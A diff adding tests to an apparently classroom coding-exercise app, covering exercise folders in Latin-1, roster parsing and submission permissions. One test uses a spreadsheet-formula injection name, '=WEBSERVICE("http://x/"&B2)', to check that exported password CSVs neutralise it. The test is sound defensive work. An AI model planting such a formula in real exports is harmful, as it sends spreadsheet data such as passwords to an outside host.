@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import shutil
 import subprocess
 import sys
 import zipfile
@@ -87,6 +88,11 @@ def test_the_teacher_is_told_which_exercise_folders_are_left_out_and_why_and_stu
     assert any(w.startswith("tiled_gemm/reference.py line 2") for w in told["left_out"]), told
     assert [e["name"] for e in room.exercises("Ada")] == ["vector_add"]
     assert room.left_out_exercises("Ada", "")["error"]["stage"] == "permission"
+    latin = shutil.copytree(ROOT / "exercises" / "vector_add", tmp_path / "exercises" / "latin")
+    (latin / "statement.md").write_bytes("# Café\n".encode("latin-1"))  # Latin-1: this folder out, the others in
+    told = room.left_out_exercises("teacher", "")
+    assert told["exercises"] == ["vector_add"] and any(w.startswith("latin: UnicodeDecodeError") for w in
+                                                       told["left_out"]), told
 
 
 def test_the_exercises_folder_is_a_setting_so_a_containers_volume_can_hold_it(tmp_path):
@@ -179,6 +185,16 @@ def test_a_roster_exported_by_a_school_system_gives_no_password_to_its_header_an
     assert room.roster_preview("teacher", "", "Ada\nGrace\n")["names"] == ["Ada", "Grace"]  # one a line, as before
 
 
+def test_a_roster_with_a_byte_order_mark_a_name_no_one_could_log_in_with_or_a_formula_is_read_safely(tmp_path):
+    room = room_for(tmp_path)
+    assert room.roster_preview("teacher", "", "\ufeffname\nAda\n")["names"] == ["Ada"]
+    for unusable in ("A" * 65, "Ada\u200bLovelace"):
+        answer = room.roster_preview("teacher", "", f"Grace\n{unusable}\n")
+        assert answer["ok"] is False and "cannot log in" in answer["error"]["message"]
+    made = room.import_roster("teacher", "", 'name\n"=WEBSERVICE(""http://x/""&B2)"\n')
+    assert '\n"\'=WEBSERVICE' in made["csv"], "a name is never a formula in the passwords' CSV"
+
+
 def test_a_roster_name_typed_in_another_case_finds_its_student_and_an_unknown_one_is_refused(tmp_path):
     room = room_for(tmp_path)
     room.import_roster("teacher", "", "name\nAda Lovelace\nGrace Hopper\n")
@@ -200,6 +216,9 @@ def test_a_student_sees_their_own_submissions_and_code_and_the_teacher_one_stude
     mine = room.my_submissions("Ada", "vector_add")
     assert [r["id"] for r in mine["rows"]] == [second, first]
     assert mine["rows"][1]["off_board"] is True and "same as Grace's" not in str(mine), "the teacher's reason stays"
+    free = room.my_submission("Ada", second)  # the class password: anyone may log in as "Ada"
+    assert free["error"]["stage"] == "permission" and "source" not in free
+    room.import_roster("teacher", "", "Ada\nGrace\n")  # now a name is someone's own
     assert room.my_submission("Ada", second)["source"] == "ada's second"
     assert room.my_submission("Ada", graces)["ok"] is False  # another's is as missing as none
     assert room.my_submissions("", "")["error"]["stage"] == "permission"
